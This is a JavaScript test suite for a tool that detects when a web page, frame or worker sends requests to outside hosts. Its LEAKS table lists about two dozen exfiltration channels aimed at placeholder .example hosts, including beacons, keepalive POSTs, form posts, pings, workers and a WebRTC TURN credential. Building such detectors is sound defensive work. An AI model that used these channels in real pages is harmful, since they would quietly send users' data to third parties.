/** Whose requests are whose: what pages, frames and workers send to somebody else is caught, what the browser asks for is not. */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { askedByPages } from "./helpers/asked.js";
import { launch } from "./helpers/browser.js";
import { plug, visit } from "./helpers/stage.js";

/** A dishonest site: no policy holds its pages back. */
const FILES = {
  "/": ["text/html", "<!doctype html><title>Spy</title><link rel=icon href=data:,><p>Spy"],
  "/worker.js": ["text/javascript", `fetch("https://worker.example/")`],
  "/shared.js": ["text/javascript", `onconnect = () => fetch("https://shared.example/")`],
  "/service.js": ["text/javascript", `addEventListener("install", () => { fetch("https://service.example/"); })`],
  "/policy": ["text/html", `<!doctype html><link rel=icon href=data:,><img src="data:,">`, { "content-security-policy": "img-src 'none'; report-uri https://policy.example/" }],
  "/away": ["text/html", "", { location: "https://redirect.example/" }],
  "/hinting": ["text/html", "<!doctype html><link rel=icon href=data:,>", { link: "<https://header.example>; rel=preconnect" }],
};

const world = { browser: null, curator: null };
let site = null;
before(async () => {
  site = createServer(({ url }, reply) => {
    const [kind, text, headers = {}] = FILES[url] ?? FILES["/"];
    reply.writeHead(headers.location ? 302 : 200, { "content-type": kind, ...headers }).end(text);
  });
  await new Promise((done) => site.listen(0, "127.0.0.1", done));
  world.curator = { url: `http://127.0.0.1:${site.address().port}` };
  world.browser = await launch();
});
after(async () => {
  await world.browser?.close();
  site?.close();
  site?.closeAllConnections();
});

/** Waits until something for the host is on the cable. */
async function arrived(wire, host) {
  for (let tries = 0; tries < 400; tries += 1) {
    if (wire.sent.some(({ url }) => url.includes(host))) return;
    await new Promise((done) => setTimeout(done, 25));
  }
  assert.fail(`nothing went to ${host}`);
}

const frame = (how) => `const frame = document.createElement("iframe"); ${how}; document.body.append(frame)`;
const link = (rel, host) => `document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", as: "script", href: "https://${host}/" }))`;

/** What the page does, by the host that it does it to. */
const LEAKS = {
  "fetch.example": `fetch("https://fetch.example/")`,
  "plain.example": `fetch("http://plain.example/?truth")`,
  "kept.example": `fetch("https://kept.example/", { method: "POST", keepalive: true, mode: "no-cors", body: "truth" }); location.href = "about:blank"`,
  "picture.example": `new Image().src = "https://picture.example/"`,
  "script.example": `document.head.append(Object.assign(document.createElement("script"), { src: "https://script.example/" }))`,
  "style.example": link("stylesheet", "style.example"),
  "preload.example": link("preload", "preload.example"),
  "prefetch.example": link("prefetch", "prefetch.example"),
  "beacon.example": `navigator.sendBeacon("https://beacon.example/", "truth")`,
  "socket.example": `new WebSocket("wss://socket.example/")`,
  "plain-socket.example": `new WebSocket("ws://plain-socket.example/")`,
  "events.example": `new EventSource("https://events.example/")`,
  "worker.example": `new Worker("/worker.js")`,
  "blob.example": `new Worker(URL.createObjectURL(new Blob(['fetch("https://blob.example/")'])))`,
  "shared.example": `new SharedWorker("/shared.js")`,
  "service.example": `navigator.serviceWorker.register("/service.js")`,
  "frame.example": frame(`frame.src = "https://frame.example/"`),
  "sandboxed.example": frame(`frame.sandbox = "allow-scripts"; frame.srcdoc = "<script>fetch('https://sandboxed.example/')</scr" + "ipt>"`),
  "data.example": frame(`frame.src = "data:text/html,<img src=https://data.example/>"`),
  "policy.example": frame(`frame.src = "/policy"`),
  "redirect.example": `fetch("/away", { mode: "no-cors" })`,
  "popup.example": `open("https://popup.example/")`,
  "apart.example": `open("https://apart.example/", "_blank", "noopener")`,
  "navigation.example": `location.href = "https://navigation.example/"`,
  "form.example": `document.body.innerHTML = "<form method=post action=https://form.example/><input name=a value=truth></form>"; document.forms[0].submit()`,
  "ping.example": `document.body.innerHTML = "<a href='#' ping=https://ping.example/>go</a>"; document.querySelector("a").click()`,
  "call.example": `const call = new RTCPeerConnection({ iceServers: [{ urls: "turn:call.example:3478?transport=tcp", username: "a", credential: "truth" }] });
    call.createDataChannel("a"); call.createOffer().then((offer) => call.setLocalDescription(offer))`,
};

for (const [host, script] of Object.entries(LEAKS)) {
  test(`what a page does to reach ${host} is caught`, async () => {
    const leak = visit(world, { expected: [/./] }, async ({ page, wire }) => {
      await page.goto(`${world.curator.url}/`);
      // Text, since a page that leaves cannot answer.
      await page.evaluate(`setTimeout(() => { ${script} }, 0); null`);
      await arrived(wire, host);
    });
    await assert.rejects(leak, ({ message }) => message.includes("a request to somebody else") && message.includes(host));
  });
}

for (const rel of ["preconnect", "dns-prefetch"]) {
  test(`a page that only hints at another server is caught: ${rel}`, async () => {
    const hint = visit(world, {}, async ({ page }) => {
      await page.goto(`${world.curator.url}/`);
      await page.evaluate(`${link(rel, "hint.example")}; document.querySelector("link[rel=${rel}]").remove()`);
    });
    await assert.rejects(hint, /a hint to connect: https:\/\/hint\.example/);
  });
}

test("a header that hints at another server is caught", async () => {
  const hint = visit(world, {}, ({ page }) => page.goto(`${world.curator.url}/hinting`));
  await assert.rejects(hint, /a header tells the browser where to connect/);
});

// ---------------------------------------------------------------- the browser for itself

test("an address that a person types is nobody's leak, and the same one is, when a page asks for it", async () => {
  await visit(world, { expected: [/./] }, async ({ page, wire }) => {
    await page.goto("https://typed.example/").catch(() => {});
    await arrived(wire, "typed.example");
  });
  const leak = visit(world, { expected: [/./] }, async ({ page, wire }) => {
    await page.goto(`${world.curator.url}/`);
    await page.evaluate(`fetch("https://typed.example/").catch(() => {}); null`);
    await arrived(wire, "typed.example");
  });
  await assert.rejects(leak, /a request to somebody else: CONNECT typed.example:443/);
});

/** A browser that may do all that browsers do by themselves, over our cable: it looks for updates at once. */
async function talkative(run) {
  const noisy = { ...world, browser: null };
  const wire = await plug(noisy);
  const flags = ["--no-sandbox", "--component-updater=fast-update,url-source=http://updates.example/"];
  const ignoreDefaultArgs = ["--disable-background-networking", "--disable-component-update"];
  noisy.browser = await launch({ flags, ignoreDefaultArgs, proxy: { server: wire.proxy } });
  try {
    await run(noisy.browser, wire);
  } finally {
    await noisy.browser.close();
    wire.close();
  }
}

test("what the browser asks for by itself does not matter, and what a page asks for beside it does", async (t) => {
  await talkative(async (browser, wire) => {
    const foreign = async () => (await wire.settle()).map(({ url }) => url).filter((url) => !url.startsWith(world.curator.url));
    const page = await (await browser.newContext({ proxy: { server: wire.proxy } })).newPage();
    await page.goto(`${world.curator.url}/`);
    assert.deepEqual(await foreign(), []);
    await page.evaluate(`new Image().src = "https://picture.example/"; null`);
    await arrived(wire, "picture.example");
    assert.deepEqual([...new Set(await foreign())], ["picture.example:443"]);
    const own = wire.sent.map(({ url }) => url).filter((url) => !url.startsWith(world.curator.url) && !url.startsWith("picture."));
    t.diagnostic(`${browser.version()} asked by itself for: ${own.join(" ") || "nothing"}`);
  });
});

test("an address that the log does not know counts as a page's", async () => {
  assert.deepEqual(await askedByPages({ browser: world.browser, site: "http://127.0.0.1" }, ["nobody.example:443"]), [true]);
});
